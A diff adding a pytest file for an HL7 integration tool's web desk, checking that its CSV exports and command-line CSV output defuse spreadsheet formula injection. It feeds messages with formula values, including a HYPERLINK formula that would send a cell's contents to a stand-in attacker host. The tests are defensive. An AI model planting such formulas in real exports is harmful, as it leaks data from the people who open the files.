@@ -1,0 +1,57 @@
+"""The desk against hostile input, over real HTTP on 127.0.0.1 (`pamfr serve` with [desk]
+enabled, httpx): what a spreadsheet makes of an export."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import pytest
+
+from pamfr.hl7.samples import Person, message, nir_with_key
+from tests.desk.serving import desk_daemon
+from tests.helpers import run_cli, send
+
+# A sending application that a spreadsheet would run as a formula (MSH-3), refused (AR: an
+# event pamfr does not take) so that it is listed in the refusals per sender.
+FORMULA_SENDER = '=HYPERLINK("http://attacker.example/?"&A1;"x")'
+
+
+@pytest.fixture(scope="module")
+def desk(tmp_path_factory):
+    with desk_daemon(tmp_path_factory.mktemp("desk-security")) as running:
+        yield running
+
+
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula(desk):
+    hostile = [
+        f"MSH|^~\\&|{app}|CHU-X|DPI|CHU-X|20240306111154||ADT^A99^ADT_A01|{cid}|T|2.5\r"
+        f"EVN||20240306111154\rPID|||X{cid}^^^CHU-X^PI||DOE^JOHN\r"
+        for app, cid in ((FORMULA_SENDER, "SEC-F1"), ("+1+2", "SEC-F2"), ("-3+4", "SEC-F3"))
+    ] + ["MSH|^~\\&|@SUM(1+1)|CHU-X|DPI|CHU-X|20240306111154||ADT^A99|SEC-F4|T|2.5\r"]
+    assert [a.code for a in send(desk.daemon.port, hostile)] == ["AR"] * 4
+    exported = desk.signed_in().get("/desk/listes/refus.csv")
+    assert exported.status_code == 200
+    table = list(csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))))
+    senders = [row[0] for row in table[1:]]
+    assert "'" + FORMULA_SENDER + "|CHU-X" in senders  # shown as text, whole
+    assert {"'+1+2|CHU-X", "'-3+4|CHU-X", "'@SUM(1+1)|CHU-X"} <= set(senders)
+    for row in table:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+
+
+def test_a_trace_export_and_the_cli_s_csv_quote_a_formula_control_id(desk):
+    person = Person(ipp="SECF5", birth_name="FORMULE", ins=nir_with_key("2800175123999"))
+    assert [a.code for a in send(desk.daemon.port, [message("A28", person, "=1+2")])] == ["AA"]
+    client = desk.signed_in()
+    page = client.get("/desk/patients", params={"ipp": "SECF5"})
+    pid = int(re.search(r'href="/desk/patients/(\d+)"', page.text).group(1))
+    exported = client.get(f"/desk/patients/{pid}/trace.csv").text.lstrip("\ufeff")
+    cli = run_cli("patient", "trace", "--id", str(pid), "--format", "csv", "--db", desk.db_url)
+    for table in (exported, cli.stdout):
+        found = list(csv.DictReader(io.StringIO(table)))
+        assert [r["control_id"] for r in found] == ["'=1+2"]
+    # JSON is data, not a spreadsheet: the control id as sent
+    assert client.get(f"/desk/patients/{pid}/trace.json").json()[0]["control_id"] == "=1+2"
